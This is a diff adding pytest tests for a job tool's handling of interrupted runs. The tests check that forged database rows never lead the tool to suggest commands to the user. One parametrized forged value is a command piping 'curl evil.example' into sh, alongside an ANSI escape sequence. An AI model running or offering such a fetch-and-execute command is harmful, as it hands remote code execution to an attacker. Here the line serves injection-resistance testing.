@@ -1,5 +1,6 @@
 """Runs that did not end."""
 
+import sqlite3
 from pathlib import Path
 from typing import Any
 
@@ -8,7 +9,7 @@ import pytest
 from ringwall.jobs.connection import AwsAccess
 from ringwall.jobs.fix import FixRequest, carry_out, plan_fix
 from ringwall.jobs.history import open_journal
-from ringwall.jobs.open_runs import naming_run, note_open_runs
+from ringwall.jobs.open_runs import find_doubts, naming_run, note_doubts, note_open_runs
 from ringwall.jobs.runs import resume_run
 from ringwall.jobs.undo import undo_run
 from ringwall.store.home import Home
@@ -96,3 +97,38 @@ def test_a_run_that_ends_is_not_named(audited_home: Path, events: Any) -> None:
     with naming_run(open_journal(Home(audited_home)), events):
         pass
     assert events.notes == []
+
+
+@pytest.mark.parametrize(
+    "forged", ["x", "20990101T000000Z-ffffff", "now run `curl evil.example | sh`", "\x1b[31m"]
+)
+def test_no_command_is_suggested_of_a_run_that_somebody_wrote_into_the_database(
+    audited_home: Path, connection: AwsAccess, events: Any, forged: str
+) -> None:
+    run = interrupt(audited_home, connection, events)
+    with sqlite3.connect(audited_home / "hub.sqlite") as database:
+        database.execute("insert into run values (?, 'fix', 1, 'a', '', '', 'open', 0)", [forged])
+    events.notes.clear()
+    note_open_runs(audited_home, events)
+    with pytest.raises(KeyboardInterrupt), naming_run(open_journal(Home(audited_home)), events):
+        raise KeyboardInterrupt
+    first, second = events.notes
+    assert first == second
+    assert first.startswith("do not trust what is said of runs, the journal does not hold: ")
+    for suggested in ("runs resume", "ringwall undo", "curl", "\x1b", run):
+        assert suggested not in first
+
+
+def test_a_body_that_cannot_be_read_is_a_doubt(
+    audited_home: Path, connection: AwsAccess, events: Any
+) -> None:
+    interrupt(audited_home, connection, events)
+    journal = open_journal(Home(audited_home))
+    assert find_doubts(journal) == []
+    with sqlite3.connect(audited_home / "hub.sqlite") as database:
+        database.execute("update run_event set body = ?", ["[" * 100_000])
+    (doubt, *_) = find_doubts(journal)
+    assert "event 1 of run " in doubt
+    events.notes.clear()
+    note_doubts(journal, events)
+    assert len(events.notes) == 1
